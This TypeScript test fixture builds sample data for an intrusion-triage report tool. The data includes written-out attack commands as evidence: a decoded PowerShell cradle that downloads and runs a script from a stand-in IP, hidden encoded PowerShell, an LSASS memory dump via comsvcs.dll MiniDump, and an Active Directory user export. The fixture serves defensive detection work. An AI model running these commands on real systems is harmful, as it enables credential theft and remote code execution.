import type { Finding } from '../../../lib/outcome.ts';
import type { ReportReaders, ReportSubject } from '../../../lib/report/index.ts';
import { schemaOf, sourceOf, type Table, tableFromRows, ticksFromIso } from '../../../lib/tables/index.ts';
import { encodePng } from '../../../lib/visuals/png-encoder.ts';

const DECODED =
  "$u = 'http://203.0.113.77/stage2.ps1'\n$c = New-Object Net.WebClient\nIEX $c.DownloadString($u)\n# beacon every 60 s";

const processes = tableFromRows(
  [
    { name: 'TimeGenerated', type: 'datetime' },
    { name: 'Computer', type: 'string' },
    { name: 'NewProcessName', type: 'string' },
    { name: 'CommandLine', type: 'string' },
    { name: 'ProcessId', type: 'long' },
    { name: 'Empty', type: 'string' },
  ],
  Array.from({ length: 40 }, (_, row) => [
    ticksFromIso('2026-03-04T05:06:07.1234567Z')! + BigInt(row) * 10_000_000n,
    'ws-17.contoso.example',
    row % 3 === 0
      ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
      : 'C:\\Windows\\System32\\svchost.exe',
    row % 3 === 0
      ? 'powershell.exe -nop -w hidden -enc JAB1ACAAPQAgACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwA='
      : 'svchost.exe -k netsvcs -p',
    BigInt(4000 + row),
    null,
  ]),
);

const decoded = tableFromRows(
  [
    { name: 'TimeGenerated', type: 'datetime' },
    { name: 'Computer', type: 'string' },
    { name: 'DecodedText', type: 'string' },
    { name: 'Encoding', type: 'string' },
  ],
  [
    [ticksFromIso('2026-03-04T05:06:07Z'), 'ws-17.contoso.example', DECODED, 'utf-16le'],
    [ticksFromIso('2026-03-04T05:06:10Z'), 'ws-17.contoso.example', DECODED, 'utf-16le'],
    [
      ticksFromIso('2026-03-04T05:09:10Z'),
      'ws-22.contoso.example',
      'Get-ADUser -Filter * | Export-Csv users.csv',
      'utf-8',
    ],
  ],
);

const iocs = tableFromRows(
  [
    { name: 'IoCType', type: 'string' },
    { name: 'Observable', type: 'string' },
  ],
  [
    ['ipv4', '203.0.113.77'],
    ['ipv4', '203.0.113.77'],
    ['url', 'http://203.0.113.77/stage2.ps1'],
    ['dns', 'cdn.example.net'],
    ['sha256_hash', 'a'.repeat(64)],
  ],
);

const TABLES: Readonly<Record<string, { table: Table; verb: string }>> = {
  processes: { table: processes, verb: 'query.run' },
  decoded: { table: decoded, verb: 'decode.base64' },
  iocs: { table: iocs, verb: 'extract.iocs' },
};

const findings: readonly Finding[] = [
  {
    score: 64,
    severity: 'medium',
    title: 'Rare parent and child: WINWORD.EXE started cmd.exe',
    reason: 'Seen once in 12,408 process starts; WINWORD.EXE starts splwow64.exe in 97 % of its other cases.',
    techniques: ['T1204.002'],
    entities: [{ kind: 'host', id: 'ws-17.contoso.example' }],
    evidence: [
      {
        table: 'processes',
        row: 4,
        time: '2026-03-04T05:06:11.0000000Z',
        excerpt: 'cmd.exe /c powershell -nop -w hidden',
      },
    ],
  },
  {
    score: 96,
    severity: 'critical',
    title: 'Memory of LSASS read by rundll32.exe',
    reason:
      'rundll32.exe opened lsass.exe with the access mask 0x1FFFFF and loaded comsvcs.dll: credentials of everyone who is logged on may be in the hands of the attacker.',
    techniques: ['T1003.001', 'T1218.011'],
    entities: [
      { kind: 'host', id: 'ws-17.contoso.example' },
      { kind: 'account', id: 'CONTOSO\\alex' },
      { kind: 'process', id: 'rundll32.exe' },
    ],
    evidence: [
      {
        table: 'processes',
        row: 9,
        time: '2026-03-04T05:06:16.1234567Z',
        excerpt: 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full',
      },
    ],
  },
  {
    score: 78,
    severity: 'high',
    title: 'Encoded PowerShell that downloads and runs code',
    reason:
      'The command line holds 72 characters of Base64; decoded, it fetches http://203.0.113.77/stage2.ps1 and runs it.',
    techniques: ['T1059.001', 'T1027', 'T1105'],
    entities: [{ kind: 'host', id: 'ws-17.contoso.example' }],
    evidence: [0, 3].map((row) => ({
      table: 'processes',
      row,
      time: '2026-03-04T05:06:07.1234567Z',
      excerpt:
        'powershell.exe -nop -w hidden -enc JAB1ACAAPQAgACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwA=',
    })),
  },
  {
    score: 35,
    severity: 'low',
    title: 'Encoded PowerShell of the inventory agent',
    reason: 'Base64 in a command line.',
    techniques: ['T1027'],
    entities: [],
    evidence: [
      { table: 'processes', row: 12, time: null, excerpt: 'powershell.exe -enc ZwBlAHQALQBoAG8AdABmAGkAeAA=' },
    ],
    suppressedBy: 'inventory agent (allow-list entry 3)',
  },
];

/** An investigation as the report meets it: fresh each time, so that tests may change a part. */
export function sampleSubject(): ReportSubject {
  return {
    playbook: 'host-triage',
    description: 'What ran on a host, what it hid, what it reached for, and what of it is rare.',
    inputs: { host: 'ws-17.contoso.example' },
    timeRange: { start: '2026-03-04T00:00:00.0000000Z', end: '2026-03-05T00:00:00.0000000Z' },
    sources: ['local: intrusion.jsonl.gz'],
    steps: [
      { name: 'processes', verb: 'query.run', status: 'succeeded', rowsIn: 0, rowsOut: 40, partial: true, error: null },
      {
        name: 'decoded',
        verb: 'decode.base64',
        status: 'succeeded',
        rowsIn: 40,
        rowsOut: 3,
        partial: false,
        error: null,
      },
      { name: 'iocs', verb: 'extract.iocs', status: 'succeeded', rowsIn: 3, rowsOut: 5, partial: false, error: null },
      {
        name: 'reputation',
        verb: 'lookup.threat-intel',
        status: 'failed',
        rowsIn: 5,
        rowsOut: 0,
        partial: false,
        error: { code: 'unavailable', message: 'virustotal did not answer', hint: 'Try again later.' },
      },
      {
        name: 'tree',
        verb: 'draw.process-tree',
        status: 'skipped',
        rowsIn: 0,
        rowsOut: 0,
        partial: false,
        error: null,
      },
    ],
    tables: Object.entries(TABLES).map(([name, { table, verb }]) => ({
      name,
      verb,
      rows: table.rowCount,
      columns: schemaOf(table),
      parts: [{ path: `${name}/0a1b2c/${name}/part-0.parquet`, rows: table.rowCount, sha256: 'b'.repeat(64) }],
    })),
    findings,
    verdicts: [
      {
        type: 'ipv4',
        value: '203.0.113.77',
        verdict: 'malicious',
        score: 92,
        sources: [
          { provider: 'indicators.csv', verdict: 'malicious', detail: 'campaign FERRET, since 2026-02', ageInMs: 5 },
        ],
      },
      { type: 'dns', value: 'cdn.example.net', verdict: 'benign', score: 5, sources: [] },
    ],
    artifacts: [
      { name: 'timeline', kind: 'png', path: 'timeline/33ff/timeline.png' },
      { name: 'timeline', kind: 'html', path: 'timeline/33ff/timeline.html' },
    ],
    warnings: [{ code: 'limit', message: 'processes: cut at 40 rows', step: 'processes' }],
    versions: { trailhound: '0.1.0', content: '2026.11' },
  };
}

export function sampleReaders(png: Uint8Array): ReportReaders {
  return {
    table: (name) => sourceOf(TABLES[name]!.table, name),
    artifact: async () => png,
  };
}

/** A small striped picture. */
export async function samplePng(width = 64, height = 24): Promise<Uint8Array> {
  const pixels = new Uint8Array(width * height * 4).map((_, index) => (index % 4 === 3 ? 255 : (index >> 4) % 200));
  return encodePng(pixels, width, height);
}
